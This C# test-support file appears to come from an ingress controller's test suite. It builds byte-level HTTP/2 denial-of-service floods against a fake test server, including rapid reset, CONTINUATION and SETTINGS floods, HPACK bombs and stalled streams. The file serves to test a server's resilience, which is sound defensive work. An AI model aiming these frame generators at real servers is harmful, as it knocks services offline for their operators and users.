using System.Buffers.Binary;
using System.Text;
using IngressController.Tests.Fakes;
using static IngressController.Tests.Fakes.Http2WireConnection;

namespace IngressController.Tests.Edge.Attacks;

/// <summary>The attacks by frames of HTTP/2.</summary>
internal static class Http2Floods
{
    private const int Connections = 8;

    /// <summary>The frames of one write.</summary>
    private const int Batch = 200;

    private const byte EndStream = 1;
    private const byte EndHeaders = 4;

    private static readonly byte[] Cancel = [0, 0, 0, 8];

    public static readonly Http2Flood[] All =
    [
        Repeated("rapid reset", () => Streams(stream => [.. Get(stream), .. Frame(Http2FrameType.RstStream, 0, stream, Cancel)])),
        Repeated("made you reset: window overflow", () => Streams(stream => [.. Get(stream), .. Frame(Http2FrameType.WindowUpdate, 0, stream, Number(int.MaxValue))])),
        Repeated("made you reset: increment of 0", () => Streams(stream => [.. Get(stream), .. Frame(Http2FrameType.WindowUpdate, 0, stream, Number(0))])),
        Repeated("made you reset: DATA after the end", () => Streams(stream => [.. Get(stream), .. Frame(Http2FrameType.Data, 0, stream, "x"u8)])),
        Repeated("made you reset: length of the body", () => Streams(stream => [.. Post(stream, ("content-length", "1")), .. Frame(Http2FrameType.Data, EndStream, stream, "xx"u8)])),
        Repeated("CONTINUATION flood", () => ForEver([.. Frame(Http2FrameType.Headers, 0, 1, Block(("x", "y")))], Times(Frame(Http2FrameType.Continuation, 0, 1, Block(("x", "y")))))),
        Repeated("empty CONTINUATION flood", () => ForEver([.. Frame(Http2FrameType.Headers, 0, 1, [])], Times(Frame(Http2FrameType.Continuation, 0, 1, [])))),
        Repeated("SETTINGS flood", () => ForEver([], Times(Frame(Http2FrameType.Settings, 0, 0, [0, 4, 0, 0, 0xFF, 0xFF]))), reads: false),
        Repeated("PING flood", () => ForEver([], Times(Frame(Http2FrameType.Ping, 0, 0, new byte[8]))), reads: false),
        Repeated("PRIORITY flood", () => ForEver([], Times(Frame(Http2FrameType.Priority, 0, 1, [0, 0, 0, 3, 1])))),
        Repeated("WINDOW_UPDATE flood", () => ForEver([], Times(Frame(Http2FrameType.WindowUpdate, 0, 0, Number(1))))),
        Repeated("empty DATA flood", () => ForEver(Post(1), Times(Frame(Http2FrameType.Data, 0, 1, [])))),
        Repeated("padded DATA flood", () => ForEver(Post(1), Times(Frame(Http2FrameType.Data, 8, 1, [100, .. new byte[100]])))),
        Repeated("HPACK bomb", () => Bombs(stream => [.. Indexed("x", new string('y', 4000)), .. Enumerable.Repeat((byte)0xBE, 12_000)])),
        Repeated("HPACK table sizes", () => Bombs(stream => [.. Enumerable.Range(0, 12_000).Select(i => i % 2 == 0 ? (byte)0x20 : (byte)0x3E), .. RequestBlock("GET", [])])),
        Repeated("HPACK evictions", () => Streams(stream => Frame(Http2FrameType.Headers, EndHeaders | EndStream, stream, [.. RequestBlock("GET", []), .. Indexed($"x{stream}", new string('y', 3000))]))),
        new("stalled streams", 42, () => [[.. Frame(Http2FrameType.Settings, 0, 0, [0, 4, 0, 0, 0, 0]), .. Enumerable.Range(0, 100).SelectMany(i => Get(1 + 2 * i, "/large"))]]),
        new("stalled connection window", 42, () => [[.. Frame(Http2FrameType.Settings, 0, 0, [0, 4, 0x7F, 0xFF, 0xFF, 0xFF]), .. Enumerable.Range(0, 100).SelectMany(i => Get(1 + 2 * i, "/large"))]]),
        new("idle HTTP/2 connections", 500, () => [Frame(Http2FrameType.Ping, 0, 0, new byte[8])]),
    ];

    private static Http2Flood Repeated(string name, Func<IEnumerable<byte[]>> frames, bool reads = true) => new(name, Connections, frames, reads) { IsRepeated = true };

    /// <summary>Batches of frames for one stream after the other.</summary>
    private static IEnumerable<byte[]> Streams(Func<int, byte[]> frames)
    {
        for (var stream = 1; ; stream += 2 * Batch)
            yield return [.. Enumerable.Range(0, Batch).SelectMany(i => frames(stream + 2 * i))];
    }

    /// <summary>Header blocks of one stream after the other, in frames of the size that every server accepts.</summary>
    private static IEnumerable<byte[]> Bombs(Func<int, byte[]> block)
    {
        for (var stream = 1; ; stream += 2)
            yield return Frame(Http2FrameType.Headers, EndHeaders | EndStream, stream, block(stream));
    }

    private static IEnumerable<byte[]> ForEver(byte[] first, byte[] batch)
    {
        if (first.Length > 0)
            yield return first;
        while (true)
            yield return batch;
    }

    private static byte[] Times(byte[] frame) => [.. Enumerable.Repeat(frame, Batch).SelectMany(bytes => bytes)];

    private static byte[] Get(int stream, string path = "/") => Frame(Http2FrameType.Headers, EndHeaders | EndStream, stream, RequestBlock("GET", [], path));

    private static byte[] Post(int stream, params (string Name, string Value)[] fields) => Frame(Http2FrameType.Headers, EndHeaders, stream, RequestBlock("POST", fields));

    private static byte[] RequestBlock(string method, (string Name, string Value)[] fields, string path = "/") =>
        Block([(":method", method), (":scheme", "https"), (":authority", AttackedServer.Host), (":path", path), .. fields]);

    /// <summary>Fields as literals that are not indexed; none is longer than 126 bytes.</summary>
    private static byte[] Block(params (string Name, string Value)[] fields) =>
        [.. fields.SelectMany(field => (byte[])[0, (byte)field.Name.Length, .. Encoding.ASCII.GetBytes(field.Name), (byte)field.Value.Length, .. Encoding.ASCII.GetBytes(field.Value)])];

    /// <summary>A field that is added to the dynamic table; its value has 127 to 16510 bytes.</summary>
    private static byte[] Indexed(string name, string value) =>
        [0x40, (byte)name.Length, .. Encoding.ASCII.GetBytes(name), 0x7F, (byte)(0x80 | ((value.Length - 127) & 0x7F)), (byte)((value.Length - 127) >> 7), .. Encoding.ASCII.GetBytes(value)];

    private static byte[] Number(int value)
    {
        var bytes = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(bytes, value);
        return bytes;
    }
}
